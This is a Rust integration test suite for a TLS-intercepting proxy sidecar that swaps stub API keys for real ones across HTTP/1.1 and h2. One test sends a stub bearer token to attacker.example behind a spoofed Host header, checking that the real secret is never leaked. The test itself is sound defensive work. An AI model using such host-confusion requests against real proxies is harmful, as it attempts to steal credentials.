//! Regression cases K01–K12 from `shared/cases/proxy-cases.md`, each asserting the correct behaviour with a real
//! client over loopback. See `support/` for the upstream stand-in and the sidecar launcher.

use crate::support;

use std::time::Duration;

use base64::Engine as _;
use support::*;
use tokio::io::AsyncWriteExt as _;

// K01: the client offers ALPN http/1.1 only (as Node/undici does) while the upstream speaks h2 only.
const NODE_HTTP1_THROUGH_CONNECT: &str = r#"
const http = require('http');
const tls = require('tls');
const fs = require('fs');
const [proxyHost, proxyPort, caPath, stub] = process.argv.slice(1);
const req = http.request({
  host: proxyHost, port: Number(proxyPort), method: 'CONNECT',
  path: 'api.anthropic.com:443', headers: { host: 'api.anthropic.com:443' },
});
req.on('error', (e) => { console.error('proxy error', e); process.exit(2); });
req.on('connect', (res, socket) => {
  if (res.statusCode !== 200) { console.error('CONNECT status', res.statusCode); process.exit(3); }
  const t = tls.connect({
    socket, servername: 'api.anthropic.com', ca: fs.readFileSync(caPath), ALPNProtocols: ['http/1.1'],
  }, () => {
    const r = http.request({
      createConnection: () => t, host: 'api.anthropic.com', port: 443, path: '/echo', method: 'GET',
      setHost: false, headers: { host: 'api.anthropic.com', 'x-api-key': stub },
    }, (resp) => {
      let body = '';
      resp.on('data', (d) => { body += d; });
      resp.on('end', () => {
        console.log(JSON.stringify({
          alpn: t.alpnProtocol, status: resp.statusCode, httpVersion: resp.httpVersion, bodyLen: body.length,
        }));
        t.destroy();
        process.exit(0);
      });
    });
    r.on('error', (e) => { console.error('request error', e); process.exit(4); });
    r.end();
  });
  t.on('error', (e) => { console.error('tls error', e); process.exit(5); });
});
req.end();
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k01_node_http1_only_alpn_with_h2_upstream() {
    let h = Harness::start(Alpn::H2Only, |_| {}).await;
    let out = run_node(
        NODE_HTTP1_THROUGH_CONNECT,
        &[
            "127.0.0.1",
            &h.sidecar.proxy.port().to_string(),
            &h.sidecar.ca_path.to_string_lossy(),
            ANTHROPIC_STUB,
        ],
        &[],
    )
    .await
    .ok("node CONNECT + tls.connect(ALPN http/1.1)");
    let v: serde_json::Value = serde_json::from_str(out.stdout.trim()).expect("node JSON line");
    assert_eq!(
        v["alpn"], "http/1.1",
        "client-side ALPN must come from the client's own offer"
    );
    assert_eq!(v["status"], 200);
    assert_eq!(v["httpVersion"], "1.1");
    let rec = h.upstream.only_request_to("/echo");
    assert_eq!(rec.version, "HTTP/2.0", "the h2-only upstream served it");
    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL));
    h.assert_logs_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k01_curl_http1_1_with_h2_only_upstream() {
    let h = Harness::start(Alpn::H2Only, |_| {}).await;
    let out = h
        .sidecar
        .curl()
        .args(["--http1.1", "-H"])
        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
        .arg("https://api.anthropic.com/echo")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    assert_eq!(out.http_version, "1.1");
    let rec = h.upstream.only_request_to("/echo");
    assert_eq!(rec.version, "HTTP/2.0");
    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL));
}

/// K01's other side: an upstream that speaks both. An http/1.1 client's request without a body
/// reaches it as HTTP/1.1 (offered only `http/1.1`: no translation to h2), one with a body as h2
/// (K08: over h2 an early answer survives an unread body); the key is swapped either way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k01_curl_http1_1_keeps_http1_1_upstream_when_it_has_no_body() {
    let h = Harness::start(Alpn::Both, |_| {}).await;
    for (args, want) in [
        (vec!["--http1.1"], "HTTP/1.1"),
        (vec!["--http1.1", "--data-binary", "{\"a\":1}"], "HTTP/2.0"),
        (vec!["--http2"], "HTTP/2.0"),
    ] {
        let out = h
            .sidecar
            .curl()
            .args(args.iter().copied())
            .arg("-H")
            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
            .arg("https://api.anthropic.com/echo")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{args:?}: {}", out.body_text());
        let seen = h.upstream.requests_to("/echo");
        let rec = seen.last().expect("the upstream saw the request");
        assert_eq!(rec.version, want, "{args:?}: the protocol the upstream was spoken");
        assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL), "{args:?}");
    }
    assert_eq!(h.upstream.requests_to("/echo").len(), 3);
}

// K02: HEAD, 204, 304 then a GET over one kept-alive HTTP/1.1 connection, h2 upstream.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k02_head_204_304_keepalive_then_get() {
    let h = Harness::start(Alpn::H2Only, |_| {}).await;
    let tls = tunnel_tls(&h.sidecar, "api.anthropic.com", &["http/1.1"]).await;
    let mut conn = tokio::io::BufReader::new(tls);
    let steps: [(&str, &str, u16); 4] = [
        ("HEAD", "/head", 200),
        ("GET", "/204", 204),
        ("GET", "/304", 304),
        ("GET", "/echo", 200),
    ];
    for (method, path, want) in steps {
        let extra = if path == "/304" {
            "If-None-Match: \"v1\"\r\n"
        } else {
            ""
        };
        let req = format!(
            "{method} {path} HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: {ANTHROPIC_STUB}\r\n{extra}\r\n"
        );
        conn.get_mut().write_all(req.as_bytes()).await.expect("write request");
        let resp = within(
            Duration::from_secs(20),
            "response on the kept-alive connection",
            read_response(&mut conn, method == "HEAD"),
        )
        .await
        .unwrap_or_else(|e| panic!("{method} {path}: unreadable response: {e}"));
        assert_eq!(resp.status, want, "{method} {path}: {}", resp.head);
        assert!(
            resp.header("transfer-encoding").is_none(),
            "{method} {path} must carry no body framing, got head:\n{}",
            resp.head
        );
        if path == "/echo" {
            let v: serde_json::Value = serde_json::from_slice(&resp.body).expect("echo body is JSON");
            assert_eq!(v["path"], "/echo");
        }
    }
    let reqs = h.upstream.requests();
    assert_eq!(reqs.len(), 4, "{reqs:#?}");
    for r in &reqs {
        assert_eq!(r.version, "HTTP/2.0");
        assert_eq!(r.header("x-api-key"), Some(ANTHROPIC_REAL));
    }
}

// K03: Basic credentials with the stub as password.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k03_basic_auth_stub_swapped_inside_base64() {
    let h = Harness::default_setup().await;
    let out = h
        .sidecar
        .curl()
        .arg("-u")
        .arg(format!("x-access-token:{GITHUB_STUB}"))
        .arg("https://github.com/owner/repo.git/info/refs?service=git-upload-pack")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    assert_eq!(
        out.header("content-type"),
        Some("application/x-git-upload-pack-advertisement")
    );
    let want = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{GITHUB_REAL}"))
    );
    let rec = h.upstream.only_request_to("/owner/repo.git/info/refs");
    assert_eq!(rec.header("authorization"), Some(want.as_str()));
    assert!(!rec.contains(GITHUB_STUB));
    h.assert_logs_clean();
}

// K04: large POST bodies with the stub in a header.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k04_large_uploads_header_swapped_body_unchanged() {
    let h = Harness::default_setup().await;
    const MIB: u64 = 1 << 20;
    for (size, proto) in [
        (MIB - 1, "--http1.1"),
        (MIB + 1, "--http2"),
        (20 * MIB, "--http1.1"),
        (100 * MIB, "--http2"),
    ] {
        let file = h.sidecar.dir.path().join(format!("upload-{size}.bin"));
        write_pattern_file(&file, size);
        let out = h
            .sidecar
            .curl()
            .arg(proto)
            .arg("-H")
            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
            .arg("-H")
            .arg("content-type: application/octet-stream")
            .arg("--data-binary")
            .arg(format!("@{}", file.display()))
            .arg("https://api.anthropic.com/upload")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "size {size}: {}", out.body_text());
        let want_sha = pattern_sha256(size);
        let v = out.json();
        assert_eq!(v["len"], size, "size {size}");
        assert_eq!(v["sha256"], want_sha.as_str(), "size {size}");
        let rec = h
            .upstream
            .requests_to("/upload")
            .pop()
            .expect("upstream saw the upload");
        assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL), "size {size}");
        assert_eq!(rec.body_len, Some(size));
        assert_eq!(rec.body_sha256.as_deref(), Some(want_sha.as_str()));
        std::fs::remove_file(&file).expect("rm upload file");
    }
    let hwm_mib = h.sidecar.vm_hwm_kib() / 1024;
    assert!(
        hwm_mib < 90,
        "sidecar peak RSS {hwm_mib} MiB after a 100 MiB upload: the body was buffered"
    );
    h.assert_logs_clean();
}

// K05: every stub occurrence swapped, no duplicates created.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k05_every_header_occurrence_swapped() {
    let h = Harness::default_setup().await;
    let key = format!("x-api-key: {ANTHROPIC_STUB}");
    let bearer = format!("Authorization: Bearer {ANTHROPIC_STUB}");
    let variants: Vec<(&str, Vec<String>)> = vec![
        ("x-api-key", vec![key.clone()]),
        ("bearer", vec![bearer.clone()]),
        ("both", vec![key.clone(), bearer.clone()]),
        ("repeated", vec![key.clone(), key.clone()]),
    ];
    for proto in ["--http1.1", "--http2"] {
        for (label, headers) in &variants {
            let mut c = h
                .sidecar
                .curl()
                .arg(proto)
                .arg("-H")
                .arg(format!("x-variant: {label}{proto}"));
            for hd in headers {
                c = c.arg("-H").arg(hd.clone());
            }
            let out = c.arg("https://api.anthropic.com/echo").run().await.ok();
            assert_eq!(out.status, 200, "{label} {proto}: {}", out.body_text());
            let rec = h
                .upstream
                .requests()
                .into_iter()
                .find(|r| r.header("x-variant") == Some(&format!("{label}{proto}")))
                .expect("upstream saw the variant");
            assert!(
                !rec.contains(ANTHROPIC_STUB),
                "{label} {proto}: stub reached the bound host: {rec:#?}"
            );
            let keys = rec.headers_named("x-api-key");
            let auths = rec.headers_named("authorization");
            let want_keys = headers.iter().filter(|h| h.starts_with("x-api-key")).count();
            let want_auths = headers.iter().filter(|h| h.starts_with("Authorization")).count();
            assert_eq!(keys, vec![ANTHROPIC_REAL; want_keys], "{label} {proto}");
            let bearer_real = format!("Bearer {ANTHROPIC_REAL}");
            assert_eq!(auths, vec![bearer_real.as_str(); want_auths], "{label} {proto}");
        }
    }
    h.assert_logs_clean();
}

// K06: the secret's destination is the CONNECT target, never a Host header.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k06_host_header_mismatch_is_421_and_real_never_leaves() {
    let h = Harness::start(Alpn::Both, |c| c.intercept = Some("all".into())).await;
    for proto in ["--http1.1", "--http2"] {
        let out = h
            .sidecar
            .curl()
            .arg(proto)
            .args(["-H", "Host: api.github.com", "-H"])
            .arg(format!("Authorization: Bearer {GITHUB_STUB}"))
            .arg("https://attacker.example/echo")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 421, "{proto}: {}", out.body_text());
    }
    assert!(
        !h.upstream.saw(GITHUB_REAL),
        "REAL reached an upstream: {:#?}",
        h.upstream.requests()
    );
    h.assert_logs_clean();
}

// K07: strict X.509 clients accept the sidecar's CA and leaf.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k07_openssl_x509_strict_verifies_leaf_and_ca() {
    let h = Harness::default_setup().await;
    let proxy = format!("127.0.0.1:{}", h.sidecar.proxy.port());
    let s_client = run_prog(
        "openssl",
        &[
            "s_client",
            "-proxy",
            &proxy,
            "-connect",
            "api.anthropic.com:443",
            "-servername",
            "api.anthropic.com",
            "-showcerts",
        ],
        &[],
        None,
    )
    .await;
    let certs = all_pem_certs(&s_client.stdout);
    assert!(
        !certs.is_empty(),
        "no certificate from s_client: {}\n{}",
        s_client.stdout,
        s_client.stderr
    );
    let dir = h.sidecar.dir.path();
    let leaf = dir.join("leaf.pem");
    std::fs::write(&leaf, &certs[0]).expect("write leaf");
    let ca = h.sidecar.ca_path.to_string_lossy().to_string();
    let leaf_s = leaf.to_string_lossy().to_string();
    let verify = run_prog(
        "openssl",
        &["verify", "-x509_strict", "-CAfile", &ca, &leaf_s],
        &[],
        None,
    )
    .await;
    assert_eq!(
        verify.exit, 0,
        "openssl verify -x509_strict failed: {}{}",
        verify.stdout, verify.stderr
    );
    assert!(verify.stdout.contains(": OK"), "{}", verify.stdout);

    let ca_text = run_prog("openssl", &["x509", "-in", &ca, "-noout", "-text"], &[], None)
        .await
        .ok("openssl x509 CA")
        .stdout;
    assert!(ca_text.contains("X509v3 Basic Constraints: critical"), "{ca_text}");
    assert!(ca_text.contains("CA:TRUE"), "{ca_text}");
    assert!(ca_text.contains("X509v3 Key Usage: critical"), "{ca_text}");
    assert!(ca_text.contains("Certificate Sign, CRL Sign"), "{ca_text}");
    assert!(ca_text.contains("X509v3 Subject Key Identifier"), "{ca_text}");
    assert!(ca_text.contains("ASN1 OID: prime256v1"), "CA is ECDSA P-256: {ca_text}");

    let leaf_text = run_prog("openssl", &["x509", "-in", &leaf_s, "-noout", "-text"], &[], None)
        .await
        .ok("openssl x509 leaf")
        .stdout;
    assert!(leaf_text.contains("DNS:api.anthropic.com"), "{leaf_text}");
    assert!(leaf_text.contains("X509v3 Authority Key Identifier"), "{leaf_text}");
    assert!(leaf_text.contains("TLS Web Server Authentication"), "{leaf_text}");
    // validity <= 30 days
    let dates = run_prog(
        "openssl",
        &["x509", "-in", &leaf_s, "-noout", "-checkend", &(31 * 86400).to_string()],
        &[],
        None,
    )
    .await;
    assert_ne!(
        dates.exit, 0,
        "leaf must expire within 30 days (+1 h backdating): {}",
        dates.stdout
    );
}

const PY_STRICT_CLIENT: &str = r#"
import http.client, json, ssl, sys
proxy_host, proxy_port, ca, host, path, header, value = sys.argv[1:8]
ctx = ssl.create_default_context(cafile=ca)
# Python 3.13's default context: strict X.509 plus partial chains.
ctx.verify_flags |= ssl.VERIFY_X509_STRICT | ssl.VERIFY_X509_PARTIAL_CHAIN
c = http.client.HTTPSConnection(proxy_host, int(proxy_port), context=ctx, timeout=60)
c.set_tunnel(host, 443)
c.request("GET", path, headers={header: value})
r = c.getresponse()
body = r.read()
print(json.dumps({"status": r.status, "tls": c.sock.version(), "len": len(body)}))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k07_python_strict_verification_handshake() {
    let h = Harness::default_setup().await;
    let out = run_python(
        PY_STRICT_CLIENT,
        &[
            "127.0.0.1",
            &h.sidecar.proxy.port().to_string(),
            &h.sidecar.ca_path.to_string_lossy(),
            "api.anthropic.com",
            "/echo",
            "x-api-key",
            ANTHROPIC_STUB,
        ],
        &[],
    )
    .await
    .ok("python3 strict ssl client");
    let v: serde_json::Value = serde_json::from_str(out.stdout.trim()).expect("python JSON");
    assert_eq!(v["status"], 200);
    assert_eq!(
        h.upstream.only_request_to("/echo").header("x-api-key"),
        Some(ANTHROPIC_REAL)
    );
}

// K08: Expect: 100-continue, including an upstream that refuses before reading the body.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k08_expect_100_continue_curl_upload() {
    let h = Harness::default_setup().await;
    let file = h.sidecar.dir.path().join("2mib.bin");
    write_pattern_file(&file, 2 << 20);
    let data = format!("@{}", file.display());
    for proto in ["--http1.1", "--http2"] {
        let out = h
            .sidecar
            .curl()
            .args([proto, "--max-time", "30", "-H", "Expect: 100-continue", "-H"])
            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
            .args(["--data-binary", &data, "https://api.anthropic.com/upload"])
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{proto}: {}", out.body_text());
        let v = out.json();
        assert_eq!(v["len"], 2u64 << 20);
        assert_eq!(v["sha256"], pattern_sha256(2 << 20).as_str());
    }
    for r in h.upstream.requests() {
        assert_eq!(r.header("x-api-key"), Some(ANTHROPIC_REAL), "{}", r.path);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k08_expect_100_continue_early_401_curl_http1() {
    let h = Harness::default_setup().await;
    let file = h.sidecar.dir.path().join("2mib.bin");
    write_pattern_file(&file, 2 << 20);
    let data = format!("@{}", file.display());
    // Several rounds: a proxy that closes with the client's body unread loses the 401 only sometimes.
    for round in 0..5 {
        let out = h
            .sidecar
            .curl()
            .args(["--http1.1", "--max-time", "30", "-H", "Expect: 100-continue", "-H"])
            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
            .args(["--data-binary", &data, "https://api.anthropic.com/reject401"])
            .run()
            .await;
        assert_eq!(
            (out.exit, out.status),
            (0, 401),
            "round {round}: the upstream's 401 must reach the client intact, without a hang (curl: {})",
            out.stderr
        );
        assert_eq!(out.body_text(), "rejected before reading the body\n");
    }
    let reqs = h.upstream.requests_to("/reject401");
    assert_eq!(reqs.len(), 5);
    for r in reqs {
        assert_eq!(r.header("x-api-key"), Some(ANTHROPIC_REAL));
    }
}

/// h2 with a client that, as RFC 9113 §8.1 requires, keeps a complete response even when the server then
/// resets the unfinished request stream (curl 7.88 does not: it drops such responses even talking to the
/// upstream directly, so curl cannot judge this leg).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k08_expect_100_continue_early_401_h2() {
    let h = Harness::default_setup().await;
    for round in 0..5 {
        let resp = h2_request(
            &h.sidecar,
            "api.anthropic.com",
            "POST",
            "/reject401",
            &[
                ("expect", "100-continue"),
                ("x-api-key", ANTHROPIC_STUB),
                ("content-length", &(2u64 << 20).to_string()),
            ],
            pattern_body(2 << 20),
        )
        .await;
        assert_eq!(resp.status, 401, "round {round}");
        assert_eq!(resp.body_text(), "rejected before reading the body\n");
    }
    let reqs = h.upstream.requests_to("/reject401");
    assert_eq!(reqs.len(), 5);
    for r in reqs {
        assert_eq!(r.header("x-api-key"), Some(ANTHROPIC_REAL));
    }
}

// K09 (and W02): an encoded response reaches the client decoded to the same bytes as a direct
// fetch (real values would be replaced by stubs; this text holds none), with framing headers
// that match what it receives: identity, no stale Content-Length or Content-Encoding.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k09_encoded_responses_decode_to_the_same_bytes() {
    let h = Harness::default_setup().await;
    let connect_to = format!("api.anthropic.com:443:{}", h.upstream.tls_addr);
    let want = support::upstream::encoded_text();
    for enc in ["gzip", "br", "zstd"] {
        let url = format!("https://api.anthropic.com/encoded?enc={enc}");
        for proto in ["--http1.1", "--http2"] {
            let direct = Curl::bare(h.sidecar.dir.path())
                .args([proto, "--compressed", "--connect-to", &connect_to, "--cacert"])
                .arg(h.upstream.ca_pem_path.to_string_lossy().to_string())
                .arg(&url)
                .run()
                .await
                .ok();
            assert_eq!(
                direct.header("content-encoding"),
                Some(enc),
                "test premise: {enc} {proto}"
            );
            assert_eq!(String::from_utf8_lossy(&direct.body), want, "direct {enc} {proto}");
            // Without --compressed: the bytes as the proxy sent them.
            let via = h
                .sidecar
                .curl()
                .args([proto, "-H", "accept-encoding: gzip, br, zstd"])
                .arg(&url)
                .run()
                .await
                .ok();
            assert_eq!(via.status, 200);
            assert_eq!(
                String::from_utf8_lossy(&via.body),
                want,
                "{enc} {proto}: decoded bytes differ"
            );
            assert_eq!(via.header("content-encoding"), None, "{enc} {proto}");
            if let Some(len) = via.header("content-length") {
                assert_eq!(len, via.body.len().to_string(), "{enc} {proto}: a stale Content-Length");
            }
        }
    }
}

// K10: the CONNECT reply is bare; HTTP/1.0 clients never get chunked bodies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k10_connect_reply_is_bare_200() {
    let h = Harness::default_setup().await;
    let (s, reply) = connect_raw(h.sidecar.proxy, "api.anthropic.com:443").await;
    assert!(
        reply.head.starts_with("HTTP/1.1 200"),
        "CONNECT reply: {:?}",
        reply.head
    );
    assert!(reply.head.ends_with("\r\n\r\n"), "{:?}", reply.head);
    for (k, _) in &reply.headers {
        assert!(
            !k.eq_ignore_ascii_case("content-length") && !k.eq_ignore_ascii_case("transfer-encoding"),
            "CONNECT reply carries body framing: {:?}",
            reply.head
        );
    }
    // The tunnel is usable right after the reply.
    let tls = tls_over(s, "api.anthropic.com", &h.sidecar.ca_path, &["http/1.1"])
        .await
        .expect("TLS after the CONNECT reply");
    let mut conn = tokio::io::BufReader::new(tls);
    conn.get_mut()
        .write_all(b"GET /echo HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n")
        .await
        .expect("write");
    let resp = within(
        Duration::from_secs(20),
        "GET in tunnel",
        read_response(&mut conn, false),
    )
    .await
    .expect("response");
    assert_eq!(resp.status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k10_http1_0_clients_never_get_chunked() {
    let h = Harness::start(Alpn::H2Only, |_| {}).await;
    // Raw HTTP/1.0 inside the tunnel, an upstream response without Content-Length.
    let len = 300_000u64;
    let tls = tunnel_tls(&h.sidecar, "api.anthropic.com", &["http/1.1"]).await;
    let mut conn = tokio::io::BufReader::new(tls);
    conn.get_mut()
        .write_all(format!("GET /big?bytes={len}&length=0 HTTP/1.0\r\nHost: api.anthropic.com\r\n\r\n").as_bytes())
        .await
        .expect("write");
    let resp = within(
        Duration::from_secs(30),
        "HTTP/1.0 response",
        read_response(&mut conn, false),
    )
    .await
    .expect("HTTP/1.0 response");
    assert_eq!(resp.status, 200, "{}", resp.head);
    assert!(
        resp.header("transfer-encoding").is_none(),
        "chunked sent to an HTTP/1.0 client:\n{}",
        resp.head
    );
    assert_eq!(resp.body.len() as u64, len);
    assert_eq!(sha256_hex(&resp.body), pattern_sha256(len));

    // curl -0 with a streamed (no Content-Length) SSE body and a sized body.
    for path in ["/sse?events=3&interval_ms=50", "/big?bytes=100000"] {
        let out = h
            .sidecar
            .curl()
            .arg("-0")
            .arg(format!("https://api.anthropic.com{path}"))
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{path}");
        assert!(
            out.header("transfer-encoding").is_none(),
            "{path}: chunked to HTTP/1.0:\n{}",
            out.header_dump
        );
        if path.starts_with("/sse") {
            assert_eq!(out.body_text().matches("data: ").count(), 3, "{}", out.body_text());
        } else {
            assert_eq!(out.body.len(), 100_000);
        }
    }
}

// K11: SSE events reach the client as they leave upstream; long silences don't time out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k11_sse_event_every_2s_arrives_promptly() {
    let h = Harness::default_setup().await;
    let url = "https://api.anthropic.com/sse?events=4&interval_ms=2000";
    let (h1, h2) = tokio::join!(
        curl_sse(&h.sidecar, url, &["--http1.1"], Duration::from_secs(60)),
        curl_sse(&h.sidecar, url, &["--http2"], Duration::from_secs(60)),
    );
    for (proto, seen) in [("http/1.1", h1), ("h2", h2)] {
        let ns: Vec<u64> = seen.iter().map(|e| e.n).collect();
        assert_eq!(ns, vec![1, 2, 3, 4], "{proto}");
        for e in &seen {
            let lag = e.recv_ms.saturating_sub(e.sent_ms);
            assert!(
                lag < 1000,
                "{proto}: event {} arrived {lag} ms after upstream sent it",
                e.n
            );
        }
        assert!(
            seen[0].recv_ms < seen[3].sent_ms,
            "{proto}: first event arrived only after the last was sent: {seen:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k11_sse_silent_for_95s_then_events() {
    let h = Harness::default_setup().await;
    let started = now_ms();
    let seen = curl_sse(
        &h.sidecar,
        "https://api.anthropic.com/sse?events=2&interval_ms=500&initial_delay_ms=95000",
        &[],
        Duration::from_secs(160),
    )
    .await;
    let ns: Vec<u64> = seen.iter().map(|e| e.n).collect();
    assert_eq!(ns, vec![1, 2], "the stream must survive 95 s of silence");
    assert!(seen[0].recv_ms >= started + 95_000);
    for e in &seen {
        assert!(e.recv_ms.saturating_sub(e.sent_ms) < 1000, "event {} late: {e:?}", e.n);
    }
}

// K12: a zstd-encoded request body is forwarded byte-for-byte; the header swap still happens.
// (The tripwire reads it decoded, so it is real zstd, as Codex sends.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k12_zstd_request_body_forwarded_unchanged() {
    let h = Harness::default_setup().await;
    let json = br#"{"model":"gpt-5-codex","input":[{"role":"user","content":"hello"}]}"#.repeat(400);
    let body = zstd::stream::encode_all(&json[..], 3).expect("zstd");
    let file = h.sidecar.dir.path().join("body.zst");
    std::fs::write(&file, &body).expect("write body");
    for proto in ["--http1.1", "--http2"] {
        let out = h
            .sidecar
            .curl()
            .args([proto, "-H", "Content-Encoding: zstd", "-H"])
            .arg("Content-Type: application/json")
            .arg("-H")
            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
            .arg("--data-binary")
            .arg(format!("@{}", file.display()))
            .arg("https://api.anthropic.com/upload")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{proto}");
        let rec = h.upstream.requests_to("/upload").pop().expect("upload seen");
        assert_eq!(rec.header("content-encoding"), Some("zstd"), "{proto}");
        assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL), "{proto}");
        assert_eq!(rec.body_len, Some(body.len() as u64), "{proto}");
        assert_eq!(rec.body_sha256, Some(sha256_hex(&body)), "{proto}");
    }
}
